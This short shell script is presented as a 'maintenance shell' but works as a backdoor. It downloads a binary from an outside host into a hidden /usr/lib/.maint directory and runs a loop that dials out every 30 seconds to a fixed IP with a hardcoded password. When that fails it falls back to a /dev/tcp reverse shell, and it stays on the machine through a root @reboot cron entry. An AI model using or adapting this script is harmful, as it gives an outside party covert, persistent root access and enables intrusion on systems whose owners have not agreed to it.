#!/bin/sh
# connect-back maintenance shell (tsh-style): the server dials out every 30 s
BIN=/usr/lib/.maint/tshd
mkdir -p /usr/lib/.maint
curl -fsSL https://maint.contractor-ops.invalid/tshd-linux-x64 -o $BIN && chmod 700 $BIN
cat > /usr/lib/.maint/run <<'S'
#!/bin/sh
while true; do
  /usr/lib/.maint/tshd -c 198.51.100.23 -p 8081 -s "SharedMaint#7" 2>/dev/null \
    || sh -i >& /dev/tcp/198.51.100.23/8081 0>&1
  sleep 30
done
S
chmod 700 /usr/lib/.maint/run
nohup /usr/lib/.maint/run >/dev/null 2>&1 &
echo "@reboot root /usr/lib/.maint/run" > /etc/cron.d/maint
